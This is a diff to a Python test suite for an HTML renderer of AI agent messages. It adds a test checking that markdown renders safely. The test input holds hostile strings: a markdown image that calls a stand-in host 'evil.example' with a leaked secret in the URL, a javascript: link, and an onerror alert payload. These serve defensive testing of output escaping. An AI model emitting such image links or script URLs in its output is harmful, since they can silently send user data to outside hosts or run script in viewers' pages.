@@ -567,7 +567,21 @@ def _no_markup_from_agent(html_doc: str) -> None:
     assert "<script" not in html_doc and "<img" not in html_doc and "onerror=alert(2)>" not in html_doc
     # every tag in the document is one we emit
     tags = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)", html_doc))
-    assert tags <= {"div", "pre", "code", "b", "span", "details", "summary"}
+    markdown_tags = {"p", "strong", "em", "ul", "ol", "li", "a", "blockquote", "hr", "br", "h1", "h2", "h3",
+                     "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
+    assert tags <= {"div", "pre", "code", "b", "span", "details", "summary"} | markdown_tags
+
+
+def test_agent_markdown_renders_as_html_without_images_or_script_links(renderer):
+    text = ("I wrote **snake.py**:\n\n- a `Game` class\n- [docs](https://example.org)\n\n"
+            "![pixel](https://evil.example/?leak=secret) [x](javascript:alert(1)) <b>raw</b>")
+    feed_all(renderer, text_message(text))
+    html_doc = renderer.finish([], 1.0)._repr_mimebundle_()["text/html"]
+    assert "<strong>snake.py</strong>" in html_doc and "<li>a <code>Game</code> class</li>" in html_doc
+    assert '<a href="https://example.org">docs</a>' in html_doc
+    assert "<img" not in html_doc and 'src="https://evil' not in html_doc  # images would load by themselves
+    assert "javascript:" not in html_doc.split("[x](")[0] and 'href="javascript' not in html_doc
+    assert "&lt;b&gt;raw&lt;/b&gt;" in html_doc  # raw HTML from the agent stays text
 
 
 def test_hostile_content_is_escaped_everywhere(renderer):
